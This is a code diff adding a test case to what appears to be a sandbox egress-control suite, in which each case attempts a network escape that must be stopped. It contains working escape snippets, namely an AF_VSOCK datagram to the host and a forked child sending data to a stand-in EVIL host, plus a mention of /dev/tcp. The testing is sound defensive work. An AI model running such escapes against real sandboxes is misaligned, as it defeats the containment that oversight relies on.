@@ -758,6 +758,11 @@ s.settimeout(1)
 try: s.connect((2, 9999))
 except OSError as error: won = error.errno not in (13, 1)
 """, control=False),
+    case("vsock-datagram", STOPPED, "a datagram to the host by AF_VSOCK, which needs no connect: the address alone is refused", """
+s = socket.socket(type=socket.SOCK_DGRAM)
+to = ctypes.create_string_buffer(struct.pack('=HHII4x', 40, 0, 9999, 2), 16)
+won = libc.sendto(s.fileno(), mark.encode(), len(mark), 0, to, 16) >= 0 or ctypes.get_errno() != 1
+""", rule="self_protection", control=False),
     case("child-sends", STOPPED, "an allowed child's libc does it: sed is told to read /dev/tcp, Python's fork sends",
          "forked(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(mark.encode(), (EVIL, 9999)) and b'')", rule="egress.allow"),
 ]
